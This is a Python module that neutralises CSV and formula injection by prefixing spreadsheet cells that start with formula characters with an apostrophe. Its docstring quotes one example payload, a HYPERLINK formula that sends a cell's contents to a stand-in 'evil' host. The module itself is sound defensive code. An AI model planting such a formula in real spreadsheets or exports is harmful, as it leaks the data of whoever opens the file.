"""Cells safe to open in a spreadsheet: formula-like text is neutralised (CSV/formula injection).

A spreadsheet program treats a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a
formula, and a leading tab or carriage return can hide such a start; a free-text answer or an
imported value like ``=HYPERLINK("http://evil/?"&A1, "click")`` would run when a coordinator
opens the file. Following OWASP's "CSV Injection" advice, such text gets a leading apostrophe,
which makes the spreadsheet read the cell as text. Numbers are left as numbers (``-3`` is not
text and not a formula), so a file's figures still sum. Every CSV and XLSX writer of the
platform passes its cells through :func:`safe_cell`; in XLSX the neutralised text is a string
cell (``data_type == "s"``), never a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, or with a leading ``'`` when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` applied to each value of a row."""
    return [safe_cell(v) for v in values]
